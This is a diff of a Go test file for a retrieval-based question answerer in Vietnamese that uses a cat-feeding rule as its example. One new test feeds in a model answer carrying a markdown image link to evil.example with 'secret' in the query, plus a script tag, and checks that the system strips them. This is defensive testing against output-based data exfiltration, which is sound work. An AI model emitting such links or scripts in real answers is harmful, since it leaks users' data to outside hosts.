@@ -162,6 +162,41 @@ func TestModelAnswerIsChecked(t *testing.T) {
 	}
 }
 
+func TestWrongAnswerIsRepairedOnce(t *testing.T) {
+	calls := 0
+	model := llm.Func{Name: "vẹt", F: func(_ context.Context, r llm.Request) iter.Seq2[llm.Delta, error] {
+		calls++
+		text := "Mỗi ngày mèo được ăn tối đa 07 bữa theo khoản 1 Điều 5 [1]."
+		if r.Purpose == "repair" {
+			text = "Mỗi ngày mèo được ăn tối đa 03 bữa theo khoản 1 Điều 5 [1]."
+		}
+		return saying(text, nil).Generate(t.Context(), r)
+	}}
+	a := New(Config{Searcher: &fixed{hits: []retrieval.Hit{hit(feeding, "d5")}}, Terms: flat{}, Today: today, Generator: model})
+	answer := ask(t, a, "Mèo được ăn tối đa mấy bữa mỗi ngày?")
+	if calls != 2 || !strings.Contains(answer.Text, "03 bữa") || answer.Checks[0].StateName == "chưa kiểm chứng" {
+		t.Errorf("%d calls, answer %+v", calls, answer)
+	}
+}
+
+func TestModelCannotSmuggleLinks(t *testing.T) {
+	text := "Mèo được ăn tối đa 03 bữa [1]. Xem ![x](https://evil.example/?q=bí+mật) và <script>alert(1)</script> nhé. "
+	a := New(Config{Searcher: &fixed{hits: []retrieval.Hit{hit(feeding, "d5")}}, Terms: flat{}, Today: today, Generator: saying(text, nil)})
+	streamed := ""
+	for event, err := range a.Ask(t.Context(), Question{Text: "Mèo được ăn tối đa mấy bữa mỗi ngày?"}) {
+		if err != nil {
+			t.Fatal(err)
+		}
+		streamed += event.Text
+		if event.Answer != nil {
+			streamed += event.Answer.Text
+		}
+	}
+	if strings.Contains(streamed, "evil.example") || strings.Contains(streamed, "<script") {
+		t.Errorf("let through: %s", streamed)
+	}
+}
+
 func TestModelDownFallsBack(t *testing.T) {
 	for _, fault := range []struct {
 		text string
